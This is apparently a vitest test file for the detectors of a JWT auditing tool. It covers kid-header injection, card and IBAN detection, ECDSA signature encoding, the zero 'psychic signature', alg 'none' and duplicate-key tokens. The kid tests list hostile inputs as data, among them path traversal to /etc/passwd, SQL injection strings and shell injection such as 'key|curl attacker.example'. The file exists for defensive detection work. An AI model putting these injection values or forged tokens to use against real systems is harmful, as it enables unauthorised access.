// The tricky detectors of `token audit`, on their own: kid injection, Luhn and friends, DER vs raw
// ECDSA, the psychic signature, alg "none" casing, duplicate keys and non-canonical base64url.
import { generateKeyPairSync, sign } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { isAlgNone } from '../../src/tokens/alg-families.js';
import { decodeToken } from '../../src/tokens/decode.js';
import { kidProblems } from '../../src/tokens/kid-injection.js';
import { findSensitiveClaims, isCardNumber, isIban, luhnValid } from '../../src/tokens/sensitive-claims.js';
import { isAllZero, parseDerEcdsa, signatureProblems } from '../../src/tokens/signature-shape.js';
import { maskSecret } from '../../src/tokens/weak-secrets.js';

const b64 = (text: string) => Buffer.from(text).toString('base64url');

describe('kid injection', () => {
  it('flags path traversal, quotes, SQL, shell and control characters', () => {
    const kinds = (kid: unknown) => kidProblems(kid).map((problem) => problem.kind);
    expect(kinds('../../../../dev/null')).toEqual(['path-traversal']);
    expect(kinds('..\\..\\keys\\hmac.key')).toEqual(['path-traversal']);
    expect(kinds('/etc/passwd')).toEqual(['path-traversal']);
    expect(kinds('%2e%2e%2fsecret')).toContain('path-traversal');
    expect(kinds("x' UNION SELECT 'key' -- ")).toEqual(['quote', 'sql']);
    expect(kinds('1 OR 1=1')).toEqual(['sql']);
    expect(kinds('k1; DROP TABLE keys')).toEqual(['sql']);
    expect(kinds('key|curl attacker.example')).toEqual(['shell']);
    expect(kinds('$(id)')).toEqual(['shell']);
    expect(kinds('`id`')).toEqual(['quote', 'shell']);
    expect(kinds('key\u0000.pem')).toEqual(['control-character']);
    expect(kinds('key%00')).toEqual(['control-character']);
    expect(kinds(42)).toEqual(['not-a-string']);
    expect(kinds({ $ne: null })).toEqual(['not-a-string']);
  });

  it('leaves the key ids real issuers use alone', () => {
    for (const kid of [
      undefined,
      'rs256-2026-01',
      '7c9e6679-7425-40de-944b-e07fc1f90ae7',
      'Nq--8xkP2vY_Zr0m-QfLhT3wJc1sV9uBaE6dKoI4g', // base64url thumbprint with "--" inside
      'did:web:id.example.com#key-1',
      'https://id.example.com/keys#1',
      'a1b2c3d4e5f6',
      'projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1', // a KMS key name
      'orders and refunds', // words, no SQL shape
    ]) {
      expect(kidProblems(kid), String(kid)).toEqual([]);
    }
  });
});

describe('Luhn, card numbers, IBANs', () => {
  it('checks the Luhn digit', () => {
    expect(luhnValid('4111111111111111')).toBe(true);
    expect(luhnValid('4111111111111112')).toBe(false);
    expect(luhnValid('79927398713')).toBe(true);
    expect(luhnValid('7992739871x')).toBe(false);
  });

  it('needs Luhn, a card length and a network prefix', () => {
    expect(isCardNumber('4111 1111 1111 1111')).toBe(true); // Visa test number, grouped
    expect(isCardNumber('5500-0000-0000-0004')).toBe(true); // Mastercard
    expect(isCardNumber('378282246310005')).toBe(true); // Amex, 15 digits
    expect(isCardNumber('4111111111111112')).toBe(false); // Luhn fails
    expect(isCardNumber('1234567890123452')).toBe(false); // Luhn-valid, no network starts with 1 (snowflake-like ids)
    expect(isCardNumber('411111111111')).toBe(false); // too short
  });

  it('validates IBANs by mod 97', () => {
    expect(isIban('GB82 WEST 1234 5698 7654 32')).toBe(true);
    expect(isIban('DE89370400440532013000')).toBe(true);
    expect(isIban('GB82 WEST 1234 5698 7654 33')).toBe(false);
  });

  it('finds sensitive claims by value and by name, nested, without echoing values', () => {
    const found = findSensitiveClaims({
      sub: 'u-1',
      email: 'ada@example.com',
      profile: { phone: '+1-202-555-0147', ssn: '219-09-9999', tags: ['x', '4111 1111 1111 1111'] },
      password: 'hunter2',
      pwd_changed: true,
      amr: ['pwd'],
      order: '1234567890123456789',
    });
    expect(found.map(({ path, kind }) => `${path}: ${kind}`)).toEqual([
      'email: email',
      'profile.phone: phone number',
      'profile.ssn: national id',
      'profile.tags[1]: card number',
      'password: credential',
    ]);
  });
});

describe('signature encoding', () => {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const raw = sign('sha256', Buffer.from('a.b'), { key: privateKey, dsaEncoding: 'ieee-p1363' });
  const der = sign('sha256', Buffer.from('a.b'), { key: privateKey, dsaEncoding: 'der' });

  it('tells DER from raw r || s', () => {
    expect(parseDerEcdsa(der)).not.toBeNull();
    expect(parseDerEcdsa(raw)).toBeNull();
    expect(signatureProblems('ES256', raw)).toEqual([]);
    expect(signatureProblems('ES256', der).map((problem) => problem.kind)).toEqual(['der']);
    // DER with a long-form length (ES512 signatures are over 127 bytes)
    const long = Buffer.concat([Buffer.from([0x30, 0x81, 0x88, 0x02, 0x42]), Buffer.alloc(66, 1), Buffer.from([0x02, 0x42]), Buffer.alloc(66, 2)]);
    expect(parseDerEcdsa(long)).not.toBeNull();
    expect(signatureProblems('ES512', long).map((problem) => problem.kind)).toEqual(['der']);
  });

  it('recognises the psychic signature (CVE-2022-21449), raw and DER', () => {
    expect(isAllZero(new Uint8Array(32))).toBe(true);
    expect(signatureProblems('ES256', new Uint8Array(64))).toMatchObject([{ kind: 'zero', message: expect.stringContaining('r = 0 and s = 0') }]);
    expect(signatureProblems('ES384', Buffer.concat([Buffer.alloc(48, 7), Buffer.alloc(48)]))).toMatchObject([{ kind: 'zero', message: expect.stringContaining('s = 0') }]);
    expect(signatureProblems('ES256', Buffer.from([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]))[0].kind).toBe('zero');
  });

  it('knows each alg family size', () => {
    const kinds = (alg: string, length: number) => signatureProblems(alg, new Uint8Array(length).fill(1)).map((problem) => problem.kind);
    expect(kinds('HS256', 32)).toEqual([]);
    expect(kinds('HS512', 32)).toEqual(['length']);
    expect(kinds('RS256', 256)).toEqual([]);
    expect(kinds('PS512', 512)).toEqual([]);
    expect(kinds('RS256', 128)).toEqual(['weak-rsa']);
    expect(kinds('RS256', 255)).toEqual(['length']);
    expect(kinds('EdDSA', 64)).toEqual([]);
    expect(kinds('EdDSA', 114)).toEqual([]);
    expect(kinds('Ed25519', 114)).toEqual(['length']);
    expect(kinds('ES512', 132)).toEqual([]);
    expect(kinds('RS256', 0)).toEqual(['empty']);
    expect(kinds('none', 0)).toEqual([]);
    expect(kinds('XYZ999', 3)).toEqual([]); // unknown algs are not judged
  });
});

describe('alg none and encodings', () => {
  it('matches "none" in any casing', () => {
    for (const alg of ['none', 'None', 'NONE', 'nOnE']) expect(isAlgNone(alg)).toBe(true);
    for (const alg of ['', 'non', 'none ', 'HS256', undefined, null]) expect(isAlgNone(alg)).toBe(false);
  });

  it('carries duplicate keys and non-canonical segments on the Token node', () => {
    const token = decodeToken(`${b64('{"alg":"HS256","alg":"none"}')}.${b64('{"sub":"a","role":"user","role":"admin"}')}.${b64('x'.repeat(32))}`, {
      source: 'test',
      now: 0,
    });
    expect(token.encoding.duplicateKeys).toEqual(['header.alg', 'payload.role']);
    // A compact, unique-keyed payload takes the fast path and still reports nothing.
    expect(decodeToken(`${b64('{"alg":"HS256"}')}.${b64('{"sub":"a","n":{"x":1}}')}.${b64('x'.repeat(32))}`, { source: 'test', now: 0 }).encoding).toEqual({
      nonCanonical: [],
      duplicateKeys: [],
    });
    // Nested duplicates are found too, even in compact text.
    expect(decodeToken(`${b64('{"alg":"HS256"}')}.${b64('{"n":{"x":1,"x":2}}')}.${b64('x'.repeat(32))}`, { source: 'test', now: 0 }).encoding.duplicateKeys).toEqual([
      'payload.n.x',
    ]);
  });
});

describe('masking', () => {
  it('shows two characters at most, never half of a short secret', () => {
    expect(maskSecret('your-256-bit-secret')).toBe('yo… (19 chars)');
    expect(maskSecret('abc')).toBe('a… (3 chars)');
    expect(maskSecret('x')).toBe('… (1 char)');
    expect(maskSecret('')).toBe('(empty)');
  });
});
